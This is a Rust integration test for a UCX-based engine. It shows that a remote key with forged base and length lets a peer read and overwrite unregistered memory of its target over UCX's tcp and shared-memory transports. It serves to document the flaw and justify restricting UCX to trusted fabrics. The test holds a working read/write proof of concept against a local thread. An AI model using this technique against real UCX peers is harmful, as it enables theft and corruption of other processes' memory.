//! What a remote key grants over UCX's tcp and shared-memory transports: not the region it was
//! packed for, but the whole address space of its owner. A peer that holds any key of ours
//! and rewrites the base and length it was told (its own bytes, in its own process) reads and
//! writes memory of the target that was never registered. UCX 1.13 emulates remote memory
//! access over these transports with active messages, and the target's handler copies to and
//! from whatever address the message names. This is why the engine offers UCX only where
//! its transports cannot be reached from the network, or the operator declares the fabric
//! trusted (docs/ucx.md, "Who can reach a UCX worker"). The test fails the day a UCX release
//! checks the address against the key: then that section is to be rewritten.
#![cfg(feature = "ucx")]

mod common;

use common::{deadline, fnv, pattern, Initiator, Target, SECRET_LEN, TLS_VARIANTS};
use kvbridge_ucx::wire::RegionDescriptor;

#[test]
fn a_key_with_forged_bounds_reads_and_writes_unregistered_memory_of_its_target() {
    for tls in TLS_VARIANTS {
        let mut target = Target::thread(tls);
        let mut me = Initiator::to(tls, &target);
        let answer = target.ask("SECRET");
        let w: Vec<&str> = answer.split_whitespace().collect();
        assert_eq!(w[0], "SECRET");
        let (addr, sum_before): (u64, u64) = (w[1].parse().unwrap(), w[2].parse().unwrap());

        let mut forged = RegionDescriptor::decode(&target.region).expect("the target's descriptor");
        forged.base = addr;
        forged.len = SECRET_LEN as u64;
        let key = me
            .worker
            .unpack_rkey(me.ep, &forged.encode())
            .expect("a forged descriptor unpacks: the bounds are the peer's own bytes");

        me.worker
            .get(key, 0, &me.local, 0, SECRET_LEN, deadline(20))
            .expect("a read of unregistered memory");
        let mut read = vec![0u8; SECRET_LEN];
        me.local.read(0, &mut read).unwrap();
        assert_eq!(
            fnv(&read),
            sum_before,
            "{tls}: the target's unregistered memory was not read through the forged key"
        );

        me.local.write(0, &pattern(99, SECRET_LEN)).unwrap();
        me.worker
            .put(key, 0, &me.local, 0, SECRET_LEN, deadline(20))
            .expect("a write into unregistered memory");
        me.worker.flush(me.ep, deadline(20)).unwrap();
        let after = target.ask("SECRET");
        let sum_after: u64 = after.split_whitespace().nth(2).unwrap().parse().unwrap();
        assert_eq!(
            sum_after,
            fnv(&pattern(99, SECRET_LEN)),
            "{tls}: the target's unregistered memory was not overwritten through the forged key"
        );
        eprintln!("{tls}: a forged key read and overwrote {SECRET_LEN} bytes never registered");
    }
}
